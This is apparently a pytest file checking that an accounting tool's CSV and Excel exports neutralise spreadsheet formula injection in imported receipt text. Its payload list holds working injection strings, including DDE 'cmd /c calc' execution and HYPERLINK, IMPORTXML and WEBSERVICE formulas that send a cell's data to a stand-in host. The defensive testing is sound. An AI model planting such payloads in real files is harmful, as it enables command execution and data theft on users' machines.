"""Whatever a file brought into the book, an export of it is text: no cell of a spreadsheet comes alive."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest
from badfiles_world import PAYMENTS, World

from workbench.book import read
from workbench.runs import result_files
from workbench.tables import FINDINGS

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://x.invalid/?"&A1,"clic")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "+57 300 555 0101",
    "-descuento",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
    '=DDE("cmd";"/c calc";"x")',
    "＝1+1",
    '=WEBSERVICE("http://x.invalid")',
    "'=1+1",
    '"=1+1',
)
NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)*")
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")


@pytest.fixture(scope="module")
def receipts(tmp_path_factory: pytest.TempPathFactory) -> object:
    """Receipts whose texts are the payloads, as an import stored them."""
    world = World(tmp_path_factory.mktemp("inert"))
    target = io.StringIO(newline="")
    writer = csv.writer(target)
    for number, payload in enumerate(PAYLOADS):
        writer.writerow([f"BK-{number}", "2025-10-03", "000123", "COP", "1.00", payload])
    path = world.write("payloads.csv", PAYMENTS + target.getvalue())
    with world.book() as book:
        judged = world.judge(path, "pay_us", book=book)
        assert judged.stored == len(PAYLOADS), judged.findings
        return read.receipts(book)


def test_texts_are_stored_sign_by_sign(receipts: object) -> None:
    assert tuple(receipts["text"]) == PAYLOADS  # type: ignore[index]  # a frame


def test_no_cell_of_a_csv_begins_as_a_formula_does(receipts: object, tmp_path: Path) -> None:
    result_files.write_table(tmp_path, "receipts", receipts)  # type: ignore[arg-type]  # a frame
    for_people = result_files.people_csv(receipts, "es").decode("utf-8-sig")  # type: ignore[arg-type]  # a frame
    machine = (tmp_path / "receipts.csv").open(encoding="utf-8", newline="")
    for stream, sign in ((machine, ","), (io.StringIO(for_people, newline=""), ";")):
        cells = [cell for row in csv.reader(stream, delimiter=sign) for cell in row]
        assert len(cells) > 10 * len(PAYLOADS)
        live = [cell for cell in cells if cell.startswith(LIVE) and not NUMBER.fullmatch(cell)]
        assert live == []
    machine.close()


def test_no_cell_of_a_workbook_is_a_formula_of_the_data(receipts: object, tmp_path: Path) -> None:
    result_files.write_workbook(
        tmp_path,
        notebook="payment_matching",
        company="=CO01",
        period="2025-10",
        as_of=dt.date(2025, 10, 31),
        run_id="r",
        made_at="2025-11-01T12:00:00Z",
        tables={"applied": receipts},  # type: ignore[dict-item]  # a frame
        findings=FINDINGS.empty(),
        totals=None,
    )
    book = openpyxl.load_workbook(tmp_path / "payment_matching.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
    assert [text for text in formulas if "SUBTOTAL(109," not in text] == []
    assert {cell.data_type for cell in cells if cell.value in PAYLOADS} == {"s"}
